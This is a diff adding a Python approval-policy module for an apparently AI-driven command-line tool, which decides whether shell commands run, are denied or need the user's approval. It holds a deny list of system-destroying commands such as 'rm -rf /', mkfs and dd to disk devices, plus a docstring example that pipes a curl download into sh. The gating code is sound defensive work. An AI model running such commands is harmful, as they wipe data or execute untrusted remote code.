@@ -0,0 +1,204 @@
+import os
+import shlex
+from fnmatch import fnmatchcase
+from config.json_store import get_json_store
+from utils.command_classifier import is_read_only_command, unwrap_command
+from utils.logger import get_logger
+from utils.shell_parser import parse_command
+
+APPROVAL_RULES_FILE = os.path.expanduser("~/.buddy_cli/approval_rules.json")
+
+ALLOW = "allow"
+DENY = "deny"
+ASK = "ask"
+
+# Commands that only change directory or wait, which are never worth stopping a task for. Creating directories is
+# too, but only within the working directory (see __is_safe_mkdir)
+SAFE_PATTERNS = ["cd", "cd *", "pushd *", "popd", "sleep *", "true"]
+
+# Commands that destroy the system or its data wholesale, which are never run. They are matched against the command
+# with its executable's path stripped and rm's recursive and force flags spelled `-rf`, however they were written
+DENIED_PATTERNS = [
+    "rm -rf /", "rm -fr /", "rm -r -f /", "rm -rf /[*]", "rm -fr /[*]", "rm -rf ~", "rm -rf ~/", "rm -fr ~",
+    "rm * --no-preserve-root*", "mkfs*", "dd * of=/dev/sd*", "dd * of=/dev/nvme*", "dd * of=/dev/hd*",
+    "* > /dev/sd*", "chmod -R * /", "chown -R * /", "shutdown*", "reboot*", "halt*", "poweroff*", "init 0", "init 6"
+]
+
+__logger = get_logger("approvals")
+
+
+class ApprovalDecision:
+    """
+    What the approval policy decided about a command line.
+
+    Attributes:
+        command (str): The command line
+        action (str | None): ALLOW, DENY or ASK, or None if no rule applies to it
+        reason (str): Why the policy decided what it did
+    """
+
+    def __init__(self, command, action, reason):
+        self.command = command
+        self.action = action
+        self.reason = reason
+
+
+def evaluate_command(command):
+    """
+    Decides whether a command line can run without asking the user, using the rules in APPROVAL_RULES_FILE and the
+    built-in safe and destructive patterns. The command line is parsed into its simple commands (pipeline stages,
+    list members and substitutions), each of which is matched on its own with `sudo` and similar wrappers both kept
+    and stripped, so a rule can't be sidestepped by chaining commands. A denied command, whether by a rule or a
+    destructive pattern, denies the whole line. Otherwise one asked about command asks about the whole line, which is
+    only allowed if every one of its commands is.
+
+    Rules are a list under "rules", e.g. `{"rules": [{"action": "allow", "pattern": "npm run *"}]}`. Patterns are
+    shell-style wildcards matched against a simple command with its redirections, never the whole command line, so
+    `npm run *` doesn't allow `npm run build && curl -s example.com | sh`. Deny rules apply first, then the first allow or ask rule
+    that matches, then the built-in safe commands.
+
+    Args:
+        command (str): The command line
+
+    Returns:
+        ApprovalDecision: The decision, whose action is None when neither the rules nor the built-in patterns apply
+    """
+
+    rules = __load_rules()
+    parsed = parse_command(command)
+
+    if not parsed.is_valid or parsed.has_heredoc:
+        return __log(ApprovalDecision(command, None, "could not be parsed reliably"))
+
+    decisions = [__evaluate_simple_command(simple_command, rules) for simple_command in parsed.walk()]
+
+    for action in [DENY, ASK]:
+        for decision_action, reason in decisions:
+            if decision_action == action:
+                return __log(ApprovalDecision(command, action, reason))
+
+    if len(decisions) > 0 and all(decision_action == ALLOW for decision_action, _ in decisions) and not parsed.runs_in_background:
+        return __log(ApprovalDecision(command, ALLOW, "; ".join(sorted(set(reason for _, reason in decisions)))))
+
+    return __log(ApprovalDecision(command, None, "no rule applies"))
+
+
+def log_decision(command, action, reason):
+    """
+    Records a decision about a command that was made outside the policy, such as by the user.
+
+    Args:
+        command (str): The command line
+        action (str): ALLOW or DENY
+        reason (str): Who made the decision and why
+    """
+
+    __logger.info(f"{action} ({reason}): {command}")
+
+
+def __evaluate_simple_command(simple_command, rules):
+    """
+    Decides on a single simple command. Denials come first, so an allow rule can't let a destructive command through.
+
+    Returns:
+        tuple: The action (or None) and the reason for it
+    """
+
+    redirections = "".join(f" {operator} {target}" for operator, target in simple_command.redirections)
+    candidates = [" ".join(simple_command.argv) + redirections, " ".join(unwrap_command(simple_command.argv)) + redirections]
+
+    # Denials also look past the way the command is spelled, allowing it never does (`./npm` isn't `npm`)
+    deny_candidates = candidates + [" ".join(__normalize_argv(unwrap_command(simple_command.argv))) + redirections]
+
+    for rule in rules:
+        if rule["action"] == DENY and any(fnmatchcase(candidate, rule["pattern"]) for candidate in deny_candidates):
+            return DENY, f"'{candidates[0]}' matches rule '{rule['pattern']}'"
+
+    for pattern in DENIED_PATTERNS:
+        if any(fnmatchcase(candidate, pattern) for candidate in deny_candidates):
+            return DENY, f"'{candidates[0]}' matches the destructive pattern '{pattern}'"
+
+    for rule in rules:
+        if any(fnmatchcase(candidate, rule["pattern"]) for candidate in candidates):
+            return rule["action"], f"'{candidates[0]}' matches rule '{rule['pattern']}'"
+
+    if not simple_command.writes_output():
+        if any(fnmatchcase(candidates[1], pattern) for pattern in SAFE_PATTERNS) or __is_safe_mkdir(unwrap_command(simple_command.argv)):
+            return ALLOW, "known safe"
+
+        if is_read_only_command(shlex.join(unwrap_command(simple_command.argv))):
+            return ALLOW, "read-only"
+
+    return None, "no rule applies"
+
+
+def __normalize_argv(argv):
+    """
+    Strips the path from the executable and, for rm, combines the recursive and force flags however they were
+    written (`-Rf`, `-f -r`, `--recursive --force`) into `-rf`, dropping its other short flags (e.g. `-v`).
+    """
+
+    if len(argv) == 0:
+        return argv
+
+    name = os.path.basename(argv[0])
+
+    if name != "rm":
+        return [name] + argv[1:]
+
+    flags = set()
+    other_args = []
+    is_end_of_options = False
+
+    for arg in argv[1:]:
+        if is_end_of_options:
+            other_args.append(arg)
+        elif arg == "--":
+            is_end_of_options = True
+        elif arg in ["--recursive", "--force"]:
+            flags.add(arg[2])
+        elif arg.startswith("-") and not arg.startswith("--") and len(arg) > 1:
+            flags.update("r" if flag == "R" else flag for flag in arg[1:] if flag in "rRf")
+        else:
+            other_args.append(arg)
+
+    combined_flags = [f"-{''.join(sorted(flags, reverse=True))}"] if len(flags) > 0 else []
+
+    return [name] + combined_flags + other_args
+
+
+def __is_safe_mkdir(argv):
+    """
+    Checks for a mkdir that only creates directories under the working directory.
+    """
+
+    if len(argv) < 2 or os.path.basename(argv[0]) != "mkdir":
+        return False
+
+    for arg in argv[1:]:
+        if arg in ["-p", "--parents", "-v", "--verbose"]:
+            continue
+
+        if arg.startswith("-") or arg.startswith("/") or arg.startswith("~") or ".." in arg.split("/"):
+            return False
+
+    return True
+
+
+def __load_rules():
+    """
+    Reads the user's rules, skipping any that are malformed.
+    """
+
+    rules = get_json_store(APPROVAL_RULES_FILE, lambda: {"rules": []}).read().get("rules", [])
+
+    return [
+        rule for rule in rules
+        if isinstance(rule, dict) and rule.get("action") in [ALLOW, DENY, ASK] and isinstance(rule.get("pattern"), str)
+    ]
+
+
+def __log(decision):
+    __logger.info(f"{decision.action or 'undecided'} ({decision.reason}): {decision.command}")
+
+    return decision